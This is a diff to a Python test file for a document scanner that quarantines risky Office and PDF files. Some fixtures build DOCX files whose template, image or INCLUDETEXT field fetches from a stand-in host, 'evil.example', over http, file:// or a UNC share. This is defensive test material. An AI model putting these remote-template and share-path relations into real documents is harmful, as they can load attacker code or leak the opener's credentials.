@@ -6,6 +6,7 @@ import zipfile
 import zlib
 from collections.abc import Callable
 
+import docx
 import pikepdf
 from pikepdf import Dictionary, Name, String
 
@@ -144,6 +145,8 @@ def quarantined() -> dict[str, tuple[str, Callable[[], bytes], str]]:
         "macro": ("a.docx", lambda: word(word__vbaProject_DOT_bin=b"VBA"), "macro"),
         "macro by its type": ("a.docx", lambda: word(types='<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'), "macro"),
         "outside template": ("a.docx", lambda: word(relations=relation("attachedTemplate", "http://evil.example/t.dotm")), "external_link"),
+        "template on a share": ("a.docx", lambda: word(relations=relation("attachedTemplate", "file://evil.example/t.dotm")), "external_link"),
+        "template on a share by its path": ("a.docx", lambda: word(relations=relation("attachedTemplate", "\\\\evil\\t.dotm")), "external_link"),
         "outside picture": ("a.docx", lambda: word(relations=relation("image", "http://evil.example/pixel.png")), "external_link"),
         "included text": ("a.docx", lambda: word(field("INCLUDETEXT ", '"http://evil.example/x"')), "external_link"),
         "packaged program": ("a.docx", lambda: word(word__embeddings__oleObject1_DOT_bin=b"x"), "ole_object"),
@@ -180,12 +183,23 @@ def refused() -> dict[str, tuple[str, Callable[[], bytes], str]]:
     }  # fmt: skip
 
 
+def _by_python_docx() -> bytes:
+    made = docx.Document()
+    made.add_paragraph("Kính gửi: Sở Nội vụ")
+    out = io.BytesIO()
+    made.save(out)
+    return out.getvalue()
+
+
 def ordinary() -> dict[str, tuple[str, Callable[[], bytes]]]:
     """What offices send every day and what must never be stopped."""
     return {
         "a paper": ("a.pdf", lambda: draft_pdf("A")), "a link": ("a.pdf", lambda: pdf(_annotated(Dictionary(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://vanban.example")))))),
         "opened at a page": ("a.pdf", lambda: pdf(_opens_with(Dictionary(S=Name.GoTo, D=pikepdf.Array([0, Name.Fit]))))),
         "a link in a DOCX": ("a.docx", lambda: word(relations=relation("hyperlink", "https://vanban.example"))),
+        "the sender's own template": ("a.docx", lambda: word(relations=relation("attachedTemplate", "file:///C:\\Users\\An\\mau.dotx"))),
+        "a workbook beside it": ("a.docx", lambda: word(relations=relation("oleObject", "so-lieu.xlsx"))),
+        "what Word and python-docx make": ("a.docx", _by_python_docx),
         "a page number in a DOCX": ("a.docx", lambda: word(field("PAGE \\* MERGEFORMAT"))), "an ODT": ("a.odt", lambda: open_document("<text:p>x</text:p>")),
         "an archive": ("a.zip", lambda: zipped({"a.txt": b"x", "thu muc/b.txt": b"y"})), "XML": ("a.xml", lambda: b"<?xml version='1.0'?><a/>"),
     }  # fmt: skip
